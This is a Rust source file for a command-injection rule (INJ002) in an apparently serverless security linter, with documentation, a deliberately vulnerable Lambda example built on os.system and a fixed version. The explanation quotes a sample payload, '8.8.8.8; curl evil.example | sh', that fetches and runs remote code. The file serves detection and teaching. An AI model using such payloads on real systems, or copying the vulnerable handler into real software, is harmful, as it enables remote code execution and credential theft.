use faasguard_diagnostics::{RuleMeta, Sas, Severity};
use faasguard_taint::SinkClass;

use crate::checker::Checker;
use crate::rules::injection::{Class, report};

pub(crate) static META: RuleMeta = RuleMeta {
    code: "INJ002",
    name: "command-injection",
    summary: "Event data reaches a shell command: the caller runs commands in the function",
    severity: Severity::Critical,
    sas: Sas::EventInjection,
    cwe: &[78],
    doc: r#"## What it does
Finds event data that reaches an operating-system command run through a
shell: Python `os.system`, `os.popen`, `subprocess` calls with
`shell=True` or a command string, `commands.getoutput`; Node.js
`child_process.exec` and `execSync`, and `spawn` or `execFile` with
`shell: true` or `sh -c`. An argument list without a shell, and values
passed through `shlex.quote`, are not reported.

The event is the handler's first parameter and everything read from it
(`event["body"]`, `event.queryStringParameters.id`, S3 keys of a
notification), or the request object of a web framework running in the
function (Flask, FastAPI, Django, Chalice, Express, Koa, Fastify, Azure
Functions). It is followed through assignments, string building
(concatenation, f-strings, template literals, `format`), parsing
(`json.loads`, `JSON.parse`, base64), calls to the handler's own
functions and the local modules it imports.

The severity follows the function's most exposed trigger: critical for a
public route or function URL, high behind authentication, medium for
internal triggers (queues, buckets, streams), low when nothing in the app
invokes the function.

## Why is this bad?
A shell reads `;`, `|`, `$(...)` and backticks in the value as commands of
their own: `8.8.8.8; curl evil.example | sh` turns a ping into a remote
shell in the function, which holds the execution role's credentials in its
environment. Lambda runtimes ship `curl`, `python` or `node`, so an
attacker has everything needed to exfiltrate them.

## Example
```yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Ping:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.12
      Handler: index.handler
      InlineCode: |
        import os

        def handler(event, context):
            host = event["queryStringParameters"]["host"]
            os.system("ping -c 1 " + host)
            return {"statusCode": 204}
      Events:
        Api:
          Type: Api
          Properties:
            Path: /ping
            Method: get
```

## Use instead
```yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Ping:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.12
      Handler: index.handler
      InlineCode: |
        import subprocess

        def handler(event, context):
            host = event["queryStringParameters"]["host"]
            subprocess.run(["ping", "-c", "1", "--", host], check=True)
            return {"statusCode": 204}
      Events:
        Api:
          Type: Api
          Properties:
            Path: /ping
            Method: get
```

## References
- OWASP: Command Injection: <https://owasp.org/www-community/attacks/Command_Injection>
- Python: Security considerations of `subprocess`: <https://docs.python.org/3/library/subprocess.html#security-considerations>
- Node.js: `child_process.execFile`: <https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback>
- CWE-78: Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection')
"#,
};

pub(crate) static CLASS: Class = Class {
    class: SinkClass::Command,
    what: "OS command injection",
    help: "pass the command as a list of arguments without a shell (`subprocess.run([...])`, `execFile(cmd, [args])`), or quote the value (`shlex.quote`)",
};

pub(crate) fn check(c: &mut Checker<'_>) {
    report(c, &META, &CLASS);
}
